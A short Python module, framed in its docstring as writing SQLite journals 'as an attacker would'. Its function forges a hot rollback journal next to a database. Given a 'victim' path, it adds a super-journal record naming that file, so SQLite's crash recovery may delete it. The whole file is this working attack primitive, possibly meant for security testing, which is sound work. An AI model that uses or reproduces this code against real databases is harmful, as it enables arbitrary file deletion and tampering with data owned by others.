"""Journals of SQLite as an attacker would write them (SQLite file format, section 2)."""

from __future__ import annotations

from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")


def hot_journal(session: Path, victim: Path | None, pages: int | None = None) -> Path:
    """A journal that SQLite takes for one left by a crash; with ``victim`` it names a super-journal to be deleted."""
    size = session.stat().st_size
    page = int.from_bytes(session.read_bytes()[16:18], "big")
    header = MAGIC + (0).to_bytes(4, "big") + bytes(4) + (pages or size // page).to_bytes(4, "big")
    header += (512).to_bytes(4, "big") + page.to_bytes(4, "big")
    content = header.ljust(512, b"\0")
    if victim is not None:
        name = str(victim).encode()
        content += (2**30 // page + 1).to_bytes(4, "big") + name + len(name).to_bytes(4, "big")
        content += (sum(name) % 2**32).to_bytes(4, "big") + MAGIC
    path = session.with_name(session.name + "-journal")
    path.write_bytes(content)
    return path
